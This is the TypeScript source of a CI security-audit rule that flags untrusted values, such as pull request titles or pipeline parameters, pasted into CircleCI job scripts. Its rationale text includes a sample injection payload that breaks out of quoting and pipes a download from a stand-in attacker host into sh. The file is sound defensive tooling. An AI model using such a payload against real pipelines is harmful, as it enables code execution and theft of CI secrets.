import { hasUnknown, type UnknownPart } from "../../src/expand/text.ts";
import { compileText, type Hole } from "../../src/expand/script.ts";
import type { Location, RelatedLocation } from "../../src/finding/location.ts";
import type { Severity } from "../../src/finding/severity.ts";
import type { ScriptRun } from "../../src/rule/audit.ts";
import { defineRule, type Reported } from "../../src/rule/rule.ts";
import { isComment } from "../../src/shell/comments.ts";
import type { ScriptFacts } from "../../src/shell/facts.ts";
import { spanContains, type Span } from "../../src/source/span.ts";
import { isFixedFor } from "../data/untrusted/ref-filters.ts";
import { jobOf, variableFor } from "./wording.ts";
import { sourceOfUnknown, type UntrustedSource } from "../data/untrusted/sources.ts";

export const templateInjection = defineRule({
  meta: {
    id: "template-injection",
    title: "Untrusted text is pasted into a script",
    summary: "A value that outsiders choose is substituted into a script before the shell reads it.",
    rationale:
      "CircleCI replaces `<< >>` with plain text while it compiles the configuration; quotes around it are part of the script and stop nothing. " +
      'A pull request title such as `"; curl https://attacker.example | sh; "` then runs as commands of the job, with its contexts, its OIDC token and its SSH keys.',
    remediation:
      "Give the value to the step as an environment variable and use the variable in double quotes; the shell does not parse a variable's value again.",
    limits:
      "Whether an orb runs a parameter as a script is known only when the orb's source is at hand. Values that a script fetches at run time are not followed.",
    severity: "high",
    confidence: "high",
    profile: "regular",
    data: "config",
    tags: { owasp: ["CICD-SEC-4"], cwe: ["CWE-78", "CWE-94"] },
    references: [
      {
        title: "CircleCI: pipeline values and parameters",
        url: "https://circleci.com/docs/guides/orchestrate/pipeline-variables/",
      },
      {
        title: "OWASP: poisoned pipeline execution",
        url: "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution",
      },
    ],
    since: "0.1.0",
  },
  *check({ scripts }) {
    const parameters = new Map<string, Injection[]>();
    for (const script of scripts) {
      for (const injection of injectionsIn(script)) {
        if (injection.source.kind === "pipeline-parameter") addTo(parameters, injection);
        else yield report(injection);
      }
    }
    // A parameter is put right where it is declared, so it is one finding however often it is used.
    for (const [first, ...others] of parameters.values()) if (first !== undefined) yield report(first, others);
  },
});

interface Injection {
  readonly script: ScriptRun;
  readonly hole: Hole;
  readonly source: UntrustedSource;
  /** The key whose text it becomes part of. */
  readonly key: "command" | "shell";
}

function* injectionsIn(script: ScriptRun): Iterable<Injection> {
  const shell = script.step.shell ?? script.run.shell;
  for (const hole of script.holes) {
    const source = sourceOf(hole, script);
    if (source === undefined || (source.level === "ref" && isInert(script.facts, hole.span))) continue;
    yield { script, hole, source, key: "command" };
  }
  for (const hole of shell !== undefined && hasUnknown(shell) ? compileText(shell).holes : []) {
    const source = sourceOf(hole, script);
    if (source !== undefined) yield { script, hole, source, key: "shell" };
  }
}

function addTo(injections: Map<string, Injection[]>, injection: Injection): void {
  const known = injections.get(injection.source.name);
  if (known === undefined) injections.set(injection.source.name, [injection]);
  else known.push(injection);
}

/** What ends up in the hole, when it lets anybody write a command. Names that a job's filters fix do not. */
function sourceOf({ part }: Hole, { run }: ScriptRun): UntrustedSource | undefined {
  const source = sourceOfUnknown(part);
  return source === undefined || source.level === "limited" || isFixedFor(run, source) ? undefined : source;
}

/** Whoever can trigger a pipeline or push is trusted with more than whoever opens a pull request. */
function severityOf({ level, kind }: UntrustedSource): Severity {
  return level === "text" && kind !== "pipeline-parameter" ? "high" : "medium";
}

/** A ref name holds no line break, so it can leave neither a comment nor a heredoc whose delimiter is quoted. */
function isInert(facts: ScriptFacts, span: Span): boolean {
  if (isComment(facts, span)) return true;
  if (facts.commands.some((command) => command.nestedIn !== undefined && spanContains(command.span, span))) return false;
  return facts.commands.some(({ input }) => input.kind === "heredoc" && !input.expands && spanContains(input.body.span, span));
}

function report({ script, hole, source, key }: Injection, others: readonly Injection[] = []): Reported {
  const { run, step } = script;
  const { part, at, origin } = hole;
  const name = variableFor(source.name);
  return {
    at,
    severity: severityOf(source),
    message:
      key === "shell"
        ? `\`${source.name}\` is pasted into the command that runs this script: ${source.who} can write commands that run in ${jobOf(run)}.`
        : `\`${source.name}\` is pasted into this script before the shell reads it: ${source.who} can write commands that run in ` +
          `${jobOf(run)}. Quotes do not help.`,
    ...(key === "shell"
      ? { remediation: "Write the shell out, or declare the parameter as an `enum` of the shells you mean." }
      : {
          ...(source.kind === "pipeline-parameter" ? { remediation: parameterRemediation } : {}),
          replacement: `environment:\n  ${name}: << ${part.expression} >>\ncommand: |\n  … "$${name}"`,
        }),
    related: alsoPasted(at, others),
    ...(part.hops.length > 0 ? { trace: traceOf(part, origin, at, source) } : {}),
    route: { run, hops: step.hops },
  };
}

const parameterRemediation =
  "Declare the parameter as an `enum` of the values you mean; or give it to the step as an environment variable and use that in double quotes.";

function alsoPasted(at: Location, others: readonly Injection[]): readonly RelatedLocation[] {
  const seen = new Set([at.span.start]);
  return others.flatMap(({ hole }) => {
    if (seen.has(hole.at.span.start)) return [];
    seen.add(hole.at.span.start);
    return [{ ...hole.at, label: "also pasted here" }];
  });
}

function traceOf(part: UnknownPart, origin: Location, at: Location, source: UntrustedSource): readonly RelatedLocation[] {
  const passed = [...part.hops].reverse().map((hop) => ({ ...hop.at, label: `it is passed on as \`${hop.name}\`` }));
  return [{ ...origin, label: `\`${source.name}\` enters here` }, ...passed, { ...at, label: "and becomes part of the script" }];
}
